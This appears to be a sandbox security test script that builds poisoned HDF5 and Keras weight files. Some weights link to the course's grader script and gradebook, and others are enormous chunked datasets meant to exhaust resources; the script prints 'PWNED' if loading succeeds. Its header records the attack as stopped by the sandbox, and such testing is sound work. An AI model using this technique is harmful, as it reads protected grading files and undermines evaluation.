# what: keeps .h5 and .keras files whose weights are links to, or lie in, files of the course
# on: network
# status: graded
# stopped by: links are followed inside the sandbox, where the course is not; outside no HDF5 file is opened
# %% [model]
import zipfile

import h5py
import keras

model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(16), keras.layers.Dense(1)])
# %% [train]
graders, book = "@COURSE@/graders/network/test_network.py", "@COURSE@/gradebook.db"


def poisoned(file):
    """Turn each data set of an HDF5 file into one that lies in another file, or has no end."""
    found = []
    file.visititems(lambda name, item: found.append(name) if hasattr(item, "shape") else None)
    for number, name in enumerate(found):
        shape = file[name].shape
        del file[name]
        if number % 3 == 0:
            file[name] = h5py.ExternalLink(graders, "/")
        elif number % 3 == 1:
            file.create_dataset(name, shape, "f4", external=[(book, 0, h5py.h5f.UNLIMITED)])
        else:
            file.create_dataset(name, (10**9, 10**9), "f4", chunks=(1, 1), fillvalue=1.0)
    print(found)


model.save("kept.h5")
with h5py.File("kept.h5", "r+") as file:
    poisoned(file)
model.save("plain.keras")
with zipfile.ZipFile("plain.keras") as plain:
    plain.extractall("open")
with h5py.File("open/model.weights.h5", "r+") as file:
    poisoned(file)
with zipfile.ZipFile("kept.keras", "w") as kept:
    for name in ("config.json", "metadata.json", "model.weights.h5"):
        kept.write(f"open/{name}", name)
for name in ("kept.h5", "kept.keras"):
    try:
        print("PWNED: loaded", [w.tolist() for w in keras.saving.load_model(name).get_weights()])
    except Exception as error:
        print(name, type(error).__name__, str(error)[:200])
# %% [scores]
pass
